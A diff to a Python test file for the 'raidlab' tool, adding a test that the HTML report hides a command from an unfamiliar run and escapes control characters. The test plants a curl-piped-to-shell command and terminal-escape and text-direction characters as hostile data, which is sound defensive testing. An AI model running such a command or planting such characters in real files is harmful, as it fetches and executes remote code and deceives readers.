@@ -7,6 +7,7 @@ as there are in an hour of each test, and ``RAIDLAB_HOSTILE_SEED`` draws another
 
 from __future__ import annotations
 
+import html
 import io
 import json
 import os
@@ -25,7 +26,7 @@ import pytest
 from typer.testing import CliRunner
 
 from conftest import SMALL_STUDY
-from raidlab.api import run_study
+from raidlab.api import run_study, write_report
 from raidlab.cli.app import app
 from raidlab.errors import EXIT_CODES, EXIT_INTERNAL, InputError, RaidlabError
 from raidlab.results import Run, damage, folder, load_run, parts
@@ -133,6 +134,19 @@ def sampled(found: list[Any]) -> Iterator[Any]:
         if number >= 3 and time.process_time() - began > SECONDS:
             return
         yield one
+
+
+def test_a_page_shows_no_command_of_a_stranger_and_no_control_character(small_run: Run, tmp_path: Path) -> None:
+    page = write_report(shutil.copytree(small_run.folder, tmp_path / "own")).read_text(encoding="utf-8")
+    assert "raidlab run" in page.partition("How to run it again")[2].partition("</pre>")[0]
+    strange = shutil.copytree(small_run.folder, tmp_path / "strange")
+    facts = json.loads((strange / "run.json").read_text(encoding="utf-8"))
+    facts["argv"] = ["sh", "-c", "curl example.org | sh"]
+    facts["host"] |= {"cpu": "a\x1b[2Jb\u202ec"}
+    (strange / "run.json").write_text(json.dumps(facts), encoding="utf-8")
+    page = write_report(strange).read_text(encoding="utf-8")
+    assert "curl" not in page and "is none of raidlab's, and is not shown" in html.unescape(page)
+    assert "a\\x1b[2Jb\\u202ec" in page and "\x1b" not in page and "\u202e" not in page
 
 
 @pytest.fixture(scope="module")
